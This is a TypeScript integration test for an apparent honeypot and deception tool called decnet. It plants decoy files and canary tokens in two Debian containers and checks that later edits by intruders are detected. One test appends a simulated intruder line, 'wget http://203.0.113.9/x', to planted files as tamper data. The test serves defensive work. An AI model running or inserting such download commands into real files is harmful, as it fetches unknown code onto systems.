import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { type BusEvent, type DecnetErrorRecord, isoNs, toMs } from "@decnet/sdk";
import { test } from "uvu";
import { loadConfig } from "../../src/config/load-config.ts";
import { openEngine } from "../../src/open-engine.ts";
import { virtualPace } from "../../src/pace.ts";
import { temporaryFolder } from "../fixtures/temporary-folder.ts";
import { AT_WORK } from "../fixtures/test-engine.ts";
import { inShell, startContainer, type TestContainer } from "./container.ts";
import { DEBIAN_ENTRY, DEBIAN_IMAGE, importDebian } from "./debian-image.ts";
import { createDockerd } from "./dockerd.ts";
import { needs } from "./needs.ts";

const quickstart = fileURLToPath(new URL("../../../../examples/quickstart/", import.meta.url));
const PEOPLE = [
  {
    name: "Marta Reis",
    email: "marta.reis@northgate.example",
    role: "Database Administrator",
    language: "pt",
  },
  { name: "Rui Lopes", email: "rui.lopes@northgate.example", role: "Backend Developer", language: "en" },
];
const PARENTS = "/ /home /home/mreis /home/rlopes /etc /opt";
const TICKS = 48;

// What the image runs, and the watcher with its two tools.
const OWN_PROCESSES =
  /^(\S*sshd|cron|rsyslogd|ps -eo|sleep 0|\S*sh -c while|\S*sh \/usr\/local\/sbin\/entry|\[)/;

/** What the watcher inside saw running. */
const processesSeen = async ({ container }: TestContainer): Promise<string[]> => {
  const { State } = await container.inspect();
  return [...new Set(readFileSync(`/proc/${State.Pid}/root/dev/shm/seen`, "utf8").split("\n"))].filter(
    Boolean,
  );
};

/** An engine on the containers, with a clock pinned inside work hours. */
const openOn = async (
  socketPath: string,
  dataDir: string,
  file: { create: number; edit: number; leaveAlone: number },
  now = AT_WORK,
) => {
  const fallback = {
    dataDir,
    seed: "orchestrate",
    personas: PEOPLE,
    plugins: Object.fromEntries(
      ["note", "todo", "log-cron", "canary-docx", "canary-pdf", "canary-mysql-dump"].map((name) => [
        `@decnet/plugin-${name}`,
        true,
      ]),
    ),
    fleet: { docker: { socketPath } },
    backfill: { days: 0 },
    weights: { file, canaryProbability: 0.2 },
    canary: { httpBase: "https://files.northgate.example", dnsZone: "cdn.northgate.example" },
  };
  const config = await loadConfig({ cwd: dataDir, env: {}, fallback });
  const problems: DecnetErrorRecord[] = [];
  const events: BusEvent[] = [];
  const pace = virtualPace(now);
  const opened = await openEngine({
    config,
    pace,
    pluginFolders: [quickstart],
    onProblem: (problem) => problems.push(problem),
  });
  opened.host.hooks.publish.tap("test", (event) => void events.push(event));
  await opened.engine.start();
  const close = async () => {
    await opened.engine.stop();
    await opened.close();
  };
  return { ...opened, pace, problems, events, close };
};

if (needs("orchestrating Debian containers", "dockerd", "debootstrap")) {
  const engine = createDockerd();
  const dataDir = temporaryFolder("orchestrate");
  const boxes = new Map<string, TestContainer>();
  const parents = new Map<string, string>();
  const times = (box: TestContainer) => box.sh(`stat -c '%n %y %U:%G %a' ${PARENTS}`);

  test.before(async () => {
    await engine.start();
    await importDebian(engine.docker);
    for (const name of ["web-03", "db-01"]) {
      const labels = { "decnet.decky": name, "decnet.service": "ssh" };
      const box = await startContainer(
        engine.docker,
        name,
        {},
        { Image: DEBIAN_IMAGE, Cmd: DEBIAN_ENTRY, Hostname: `srv-${name}`, Labels: labels },
      );
      boxes.set(name, box);
      parents.set(name, await times(box));
      // Seen from inside, all the while: who runs.
      const watcher = await box.container.exec({
        Cmd: ["/bin/sh", "-c", "while :; do ps -eo args=; sleep 0.02; done > /dev/shm/seen"],
      });
      await watcher.start({ Detach: true });
    }
  });
  test.after(() => engine.remove());

  test("what is planted is in the containers as it was said to be, and nothing else changed", async () => {
    const opened = await openOn(engine.socketPath, dataDir, { create: 60, edit: 30, leaveAlone: 10 });
    assert.equal(opened.engine.info.deckies().length, 2);
    const statuses: string[] = [];
    await opened.engine.run({
      ticks: TICKS,
      signal: new AbortController().signal,
      onTick: ({ outcomes }) => statuses.push(...outcomes.map(({ status }) => status)),
    });
    assert.ok(statuses.filter((status) => status === "done").length > TICKS / 3, statuses.join());
    assert.ok(!statuses.includes("failed"), JSON.stringify(opened.problems));
    assert.deepEqual(opened.problems, []);
    // Read from outside: to look by exec would be a process of ours.
    const seen = new Map(
      await Promise.all([...boxes].map(async ([name, box]) => [name, await processesSeen(box)] as const)),
    );
    let checked = 0;
    for (const decky of opened.engine.info.deckies()) {
      const box = boxes.get(decky.name) as TestContainer;
      for (const row of await opened.store.files.ofDecky(decky.uuid)) {
        const found = await box.sh(
          `stat -c '%a %u %g %s %y' ${inShell(row.path)}; sha256sum < ${inShell(row.path)}`,
        );
        const mtime = isoNs(row.lastModified).replace("T", " ").replace("Z", " +0000");
        assert.equal(
          found,
          `${row.mode.toString(8)} ${row.uid} ${row.gid} ${row.size} ${mtime}\n${row.contentHash}  -`,
          row.path,
        );
        assert.ok(toMs(row.lastModified) < opened.pace.clock.now());
        checked++;
      }
      assert.equal(await times(box), parents.get(decky.name));
      const foreign = (seen.get(decky.name) ?? []).filter((args) => !OWN_PROCESSES.test(args));
      assert.deepEqual(foreign, []);
    }
    assert.ok(checked > 10, `only ${checked} files`);
    const tokens = await opened.store.tokens.all();
    assert.ok(tokens.length > 0 && tokens.every(({ state }) => state === "planted"));
    await opened.close();
  });

  test("the log that the host's own rsyslog writes is not touched", async () => {
    for (const box of boxes.values())
      assert.equal(
        await box
          .sh("test ! -e /var/log/cron.log || grep -c CMD /var/log/cron.log || true")
          .then((count) => Number(count || 0) < 10),
        true,
      );
  });

  test("an intruder's edit is not reverted and is reported", async () => {
    const opened = await openOn(
      engine.socketPath,
      dataDir,
      { create: 0, edit: 1, leaveAlone: 0 },
      AT_WORK + 2 * 3_600_000,
    );
    const victims = [];
    for (const decky of opened.engine.info.deckies()) {
      const rows = (await opened.store.files.ofDecky(decky.uuid)).filter(({ editKey }) => editKey !== null);
      for (const row of rows) {
        await boxes.get(decky.name)?.sh(`echo 'wget http://203.0.113.9/x' >> ${inShell(row.path)}`);
        victims.push({
          decky,
          path: row.path,
          hash: await boxes.get(decky.name)?.sh(`sha256sum < ${inShell(row.path)}`),
        });
      }
    }
    const tampered = () =>
      opened.events.filter(({ topic }) => topic.startsWith("orchestrator.file.tampered."));
    for (let tick = 0; tick < 60 && tampered().length < 2; tick++) await opened.engine.tick();
    const told = tampered();
    assert.ok(told.length > 0);
    for (const { decky, path, hash } of victims)
      assert.equal(await boxes.get(decky.name)?.sh(`sha256sum < ${inShell(path)}`), hash);
    for (const { payload } of told) assert.ok(victims.some(({ path }) => path === payload.path));
    await opened.close();
  });
}

test.run();
